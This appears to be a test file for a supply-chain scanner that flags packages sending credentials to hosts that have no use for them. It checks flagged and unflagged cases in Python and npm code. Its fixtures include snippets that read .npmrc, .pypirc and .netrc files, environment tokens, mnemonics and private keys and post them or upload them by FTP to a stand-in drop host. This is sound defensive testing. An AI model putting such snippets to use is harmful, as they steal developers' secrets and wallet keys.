"""Credentials that code sends when it is called, and that no client has a use for."""

from dataclasses import replace

import pytest

from pratique.analysis.chains.hoarding import sends_to_its_owner
from pratique.analysis.facts import Capability, FileFacts, Flow, Language, Taint, Use
from tests.analysis.inspecting import npm, of_rule, package_json, wheel

SINK = "https://drop.pratique-test.invalid/c"
_FILES = (
    "import pathlib, requests\nFILES = {}\ndef load():\n    requests.post('"
    + SINK
    + "', json=[pathlib.Path(f).read_text() for f in FILES])\n"
)
_KEYS = "import os, requests\ndef start():\n    requests.post('" + SINK + "', json=[{}])\n"
_SENT = (
    "import requests\nclass C:\n    def __init__(self, {0}):\n        self.{0} = {0}\n    def go(self):\n        requests.post('"
    + SINK
    + "', json=[self.{0}])\n"
)
_FTP = "import ftplib\ndef load(path):\n    f = ftplib.FTP('drop.pratique-test.invalid')\n    f.login('u', {})\n    f.storbinary('STOR x', open(path, 'rb'))\n"


def held(source: str) -> bool:
    return bool(of_rule(wheel({"parcel/__init__.py": source}), "attack-chain"))


@pytest.mark.parametrize(
    "source",
    [
        _FILES.format("['/root/.npmrc', '/root/.pypirc', '/root/.netrc']"),
        _KEYS.format("os.environ['ALPHA_TOKEN'], os.environ['BETA_TOKEN'], os.environ['GAMMA_API_KEY']"),
        _SENT.format("mnemonic"),
        _SENT.format("wallet_private_key"),
        "import solders.keypair\n" + _SENT.format("private_key"),
        _FTP.format("'marker-1'"),
    ],
)
def test_what_nobody_hands_out_is_held(source: str) -> None:
    assert held(source)


@pytest.mark.parametrize(
    "source",
    [
        _FILES.format("['/root/.npmrc']"),
        _KEYS.format("os.environ['ALPHA_TOKEN'], os.environ['ALPHA_SECRET'], os.environ['ALPHA_API_KEY']"),
        _KEYS.format("os.environ['API_TOKEN'], os.environ['DB_PASSWORD'], os.environ['CLIENT_SECRET']"),
        _SENT.format("token"),
        _SENT.format("private_key"),
        _FTP.format("path"),
    ],
)
def test_what_clients_send_is_not(source: str) -> None:
    assert not held(source)


UPLOAD = (
    "const fs = require('fs'), os = require('os'), axios = require('axios');\n"
    "module.exports = async () => axios({{method: 'POST', url: 'https://{host}/v1/storage', data: fs.createReadStream('{path}'),"
    " auth: {{username: process.env.{name}_USERNAME, password: process.env.{name}_ACCESS_KEY}}}});\n"
)
HOST, PATH, NAME = "storage.samplelabs.invalid", "app.zip", "SAMPLE"


@pytest.mark.parametrize(
    ("host", "path", "name", "expected"),
    [
        (HOST, PATH, NAME, False),
        (HOST, PATH, "OTHER", True),
        ("drop.pratique-test.invalid", PATH, NAME, True),
        ("sample.drop.invalid", PATH, NAME, True),
        (HOST, "/root/.npmrc", NAME, True),
        ("github-samples.invalid", PATH, "GITHUB", True),
        ("npm-samples.invalid", PATH, "NPM", True),
    ],
    ids=[
        *(
            "the service's own",
            "another's",
            "another host",
            "a label of another host",
            "a file of credentials",
        ),
        *("in the name of a known host", "a short name"),
    ],
)
def test_a_file_goes_up_with_the_credentials_of_the_service_that_it_is_for(
    host: str, path: str, name: str, expected: bool
) -> None:
    code = UPLOAD.format(host=host, path=path, name=name)
    found = of_rule(npm({"index.js": code, "package.json": package_json()}), "attack-chain")
    assert expected is bool(found)


FLOW = Flow(Capability.NETWORK, "axios", 2, 2, (Taint.FILE, Taint.SECRETS), at_load=False, scope=2)
KEY = Use(Capability.ENVIRONMENT, "process.env", 2, at_load=False, argument="SAMPLE_TOKEN", scope=2)


@pytest.mark.parametrize(
    ("uses", "taint", "expected"),
    [
        ((KEY,), Taint.ENVIRONMENT, True),
        ((), Taint.ENVIRONMENT, False),
        ((KEY, replace(KEY, argument="API_TOKEN")), Taint.ENVIRONMENT, False),
        ((KEY, replace(KEY, argument="OTHER_TOKEN")), Taint.ENVIRONMENT, False),
        ((KEY, replace(KEY, argument="OTHER_TOKEN", line=40, scope=9)), Taint.ENVIRONMENT, True),
        ((KEY, Use(Capability.SECRETS, ".npmrc", 1, at_load=True)), Taint.ENVIRONMENT, False),
        ((KEY,), Taint.WHOLE_ENVIRONMENT, False),
        ((KEY,), Taint.PROCESS, False),
        ((KEY,), Taint.CLIPBOARD, False),
    ],
)
def test_whose_credentials_are_sent(uses: tuple[Use, ...], taint: Taint, expected: bool) -> None:
    facts = FileFacts(language=Language.JAVASCRIPT, uses=uses)
    flow = replace(FLOW, taints=(*FLOW.taints, taint))
    assert expected is sends_to_its_owner(facts, flow, HOST)
    assert not sends_to_its_owner(facts, flow, None)
